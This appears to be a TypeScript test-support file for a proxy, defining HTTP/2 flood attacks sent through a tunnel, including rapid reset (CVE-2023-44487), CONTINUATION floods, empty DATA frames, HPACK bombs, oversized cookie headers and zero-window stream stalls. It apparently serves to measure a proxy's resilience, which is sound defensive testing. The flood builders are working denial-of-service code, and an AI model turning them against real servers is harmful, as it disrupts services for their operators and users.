// Floods of HTTP/2 inside tunnels: frames that no library would send, poured by one client on a few connections.
// Must not know how they are measured.
import {
  continuationFrame,
  dataFrame,
  FLAG,
  FRAME,
  frameOf,
  headersFrame,
  indexedLiteral,
  literalFields,
  newestEntry,
  PREFACE,
  pingFrame,
  resetFrame,
  settingsFrame,
} from '../support/http2-frames.ts';
import { type RawConnection, tunnel } from '../support/raw-client.ts';
import { type Attacker, type Flood, hold, pour, together } from './flood.ts';

const CONNECTIONS = 8;
const HOST = 'github.com';
const WHOLE = FLAG.endStream | FLAG.endHeaders;
const GET = fields('GET', '/flood');
const POST = fields('POST', '/flood');

export const HTTP2_FLOODS: readonly Flood[] = [
  poured({ name: 'rapid reset (CVE-2023-44487)', unit: 'resets', batch: 50 }, (stream) =>
    Buffer.concat([headersFrame(GET, { stream, flags: WHOLE }), resetFrame(stream, 8)]),
  ),
  {
    name: 'CONTINUATION without end (CVE-2024-27316)',
    unit: 'frames',
    run: (attacker) => {
      const more = continuationFrame(1, FLAG.none, literalFields(['x-more', 'x'.repeat(200)]));
      return onConnections(attacker, headersFrame(GET, { stream: 1, flags: FLAG.endStream }), {
        piece: () => Buffer.concat(Array(50).fill(more)),
        units: 50,
      });
    },
  },
  poured({ name: 'PING', unit: 'frames', batch: 200 }, pingFrame),
  poured({ name: 'SETTINGS', unit: 'frames', batch: 200 }, () => settingsFrame()),
  {
    name: 'empty DATA (CVE-2019-9518)',
    unit: 'frames',
    run: (attacker) =>
      onConnections(attacker, headersFrame(POST, { stream: 1, flags: FLAG.endHeaders }), {
        piece: () => Buffer.concat(Array(200).fill(dataFrame(1, 0))),
        units: 200,
      }),
  },
  poured({ name: 'HPACK bombs', unit: 'blocks', batch: 10 }, (stream) =>
    frameOf(
      { type: FRAME.headers, flags: WHOLE, stream },
      Buffer.concat([literalFields(GET), indexedLiteral('x-bomb', 'x'.repeat(4_000)), newestEntry(8_000)]),
    ),
  ),
  poured({ name: 'cookie crumbs beyond the limit', unit: 'heads', batch: 5 }, (stream) =>
    headersFrame([...GET, ...Array.from({ length: 600 }, (_, at) => ['cookie', `c${at}=1`]).flat()], {
      stream,
      flags: WHOLE,
    }),
  ),
  poured({ name: 'streams beyond the limit', unit: 'streams', batch: 50 }, (stream) =>
    headersFrame(POST, { stream, flags: FLAG.endHeaders }),
  ),
  {
    name: 'streams stalled by a window of nothing',
    unit: 'connections',
    run: (attacker) =>
      hold(attacker, {
        count: 50,
        open: async () => {
          const connection = await openHttp2(attacker);
          const streams = Array.from({ length: 100 }, (_, at) =>
            headersFrame(GET, { stream: 1 + 2 * at, flags: WHOLE }),
          );
          connection.socket.write(Buffer.concat([PREFACE, settingsFrame([[4, 0]]), ...streams]));
          return connection;
        },
      }),
  },
];

function fields(method: string, path: string): readonly string[] {
  return [':method', method, ':path', path, ':scheme', 'https', ':authority', HOST];
}

/** Frames of their own streams, in batches. */
function poured(
  what: { readonly name: string; readonly unit: string; readonly batch: number },
  frame: (stream: number) => Buffer,
): Flood {
  const { name, unit, batch } = what;
  return {
    name,
    unit,
    run: (attacker) =>
      together(attacker, CONNECTIONS, async () => {
        const connection = await openHttp2(attacker);
        connection.socket.write(Buffer.concat([PREFACE, settingsFrame()]));
        let stream = -1;
        const next = (): Buffer => {
          stream += 2;
          return frame(stream);
        };
        await pour(attacker, connection, {
          piece: () => Buffer.concat(Array.from({ length: batch }, next)),
          units: batch,
        });
      }),
  };
}

function onConnections(
  attacker: Attacker,
  first: Buffer,
  pouring: Parameters<typeof pour>[2],
): Promise<void> {
  return together(attacker, CONNECTIONS, async () => {
    const connection = await openHttp2(attacker);
    connection.socket.write(Buffer.concat([PREFACE, settingsFrame(), first]));
    await pour(attacker, connection, pouring);
  });
}

async function openHttp2({ scope, port }: Attacker): Promise<RawConnection> {
  const tls = { rejectUnauthorized: false };
  const connection = await tunnel(scope, `${HOST}:443`, { proxyPort: port, ca: '', alpn: ['h2'], tls });
  connection.socket.removeAllListeners('data');
  connection.socket.resume();
  return connection;
}
